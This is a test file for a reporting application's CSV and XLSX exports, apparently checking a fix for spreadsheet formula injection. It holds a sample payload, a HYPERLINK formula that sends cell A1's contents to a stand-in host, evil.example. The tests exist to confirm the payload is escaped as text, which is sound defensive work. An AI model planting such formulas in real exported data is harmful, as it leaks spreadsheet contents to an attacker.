/** Issue 16: a data element named like a formula must not run as one in the exported files. */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Client, type TestApp } from '../../../tests/support/test-app.ts';
import { parseCsv } from './report-files.ts';

let t: TestApp;
let admin: Client;
let formId: number;
let province: number;
const PERIOD = '2026-01-01';
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")';

beforeAll(async () => {
  t = await createTestApp();
  await t.createUser('qt.tinh', [{ role: 'unit_admin', unitCode: '33' }]);
  admin = await t.signIn('qt.tinh');
  province = await t.unitId('2025', '33');
  const forms = (await admin.request('GET', '/api/v1/report-forms')).json<{
    items: { id: number; code: string }[];
  }>().items;
  formId = forms.find((f) => f.code === 'GE_SEMIANNUAL')!.id;
  await t.handle.db
    .updateTable('data_element')
    .set({ name: EVIL })
    .where('code', '=', 'COMMUNICATION_EVENTS')
    .execute();
  const lines = [
    'unit_code,period_start,element_code,category,value',
    `11953,${PERIOD},COMMUNICATION_EVENTS,total,12`,
  ];
  const res = await admin.request('POST', '/api/v1/reports/import', {
    formId,
    fileName: 'so-lieu.csv',
    contentBase64: Buffer.from(lines.join('\n'), 'utf8').toString('base64'),
  });
  expect(res.statusCode).toBe(200);
});
afterAll(async () => t.close());

const exportUrl = (format: string) =>
  `/api/v1/reports/export?formId=${formId}&periodStart=${PERIOD}&unitId=${province}&format=${format}&all=true`;

describe('exports and formula injection', () => {
  it('csv: the formula-like name goes out quoted behind a single quote, the figure stays a number', async () => {
    const res = await admin.request('GET', exportUrl('csv'));
    expect(res.statusCode).toBe(200);
    const text = res.rawPayload.toString('utf8');
    const line = text.split('\r\n').find((l) => l.includes('COMMUNICATION_EVENTS'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")"`);
    expect(line).not.toMatch(/,=/);
    expect(line.endsWith(',12,draft')).toBe(true);
    // read back by the import, the name is as it was
    const row = parseCsv(text).find((r) => r.element_code === 'COMMUNICATION_EVENTS')!;
    expect(row.element_name).toBe(EVIL);
  });

  it('xlsx: the name is a string cell, never a formula', async () => {
    const res = await admin.request('GET', exportUrl('xlsx'));
    expect(res.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toContain('<f>');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    wb.worksheets[0]!.eachRow((r) => r.eachCell((c) => cells.push(c.value)));
    expect(cells).toContain(EVIL);
    expect(cells.every((v) => typeof v !== 'object' || v === null)).toBe(true);
  });
});
